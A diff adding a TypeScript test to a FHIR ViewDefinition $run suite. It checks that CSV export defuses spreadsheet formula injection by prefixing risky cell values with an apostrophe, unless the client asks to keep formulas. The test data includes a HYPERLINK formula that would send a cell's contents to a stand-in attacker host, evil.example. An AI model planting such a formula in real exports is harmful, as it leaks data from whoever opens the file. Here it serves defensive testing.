@@ -43,6 +43,40 @@ describe('ViewDefinition/$run', () => {
     client.send('POST', `/$viewdefinition-run${query}`, body, headers)
   const rowsOf = async (body: unknown) => JSON.parse((await send(body, '?_format=json')).text)
 
+  it('lets no spreadsheet run what somebody wrote into a record', async () => {
+    const formulas = [
+      '=HYPERLINK("https://evil.example?"&A1)',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      "'=1",
+      'a=1',
+    ]
+    const resources = formulas.map((text) =>
+      observation('x', { code: { text }, valueQuantity: { value: -7 } }),
+    )
+    const asked = parametersOf(
+      { name: 'viewResource', resource: { ...view, select: [{ column: view.select[0]?.column.slice(1) }] } },
+      ...resources.map((resource) => ({ name: 'resource', resource })),
+    )
+    const csv = await send(asked, '?_format=csv')
+    const [, ...rows] = csv.text.trimEnd().split('\r\n')
+    assert.deepEqual(rows, [
+      `-7,"'=HYPERLINK(""https://evil.example?""&A1)"`,
+      `-7,'+1+1`,
+      `-7,'-2+3`,
+      `-7,'@SUM(A1)`,
+      `-7,'\t=1`,
+      `-7,'=1`,
+      '-7,a=1',
+    ])
+    assert.equal(csv.headers.get('content-disposition'), 'attachment; filename="view.csv"')
+    const kept = await send(asked, '', { accept: 'text/csv; formulas=kept' })
+    assert.equal(kept.text.split('\r\n')[2], '-7,+1+1')
+    assert.equal(JSON.parse((await send(asked, '?_format=json')).text)[1].word, '+1+1')
+  })
+
   it('makes a table of the record, in the form that is wanted', async () => {
     const [anna, jan] = people
     const json = await send(run(), '?_format=json')
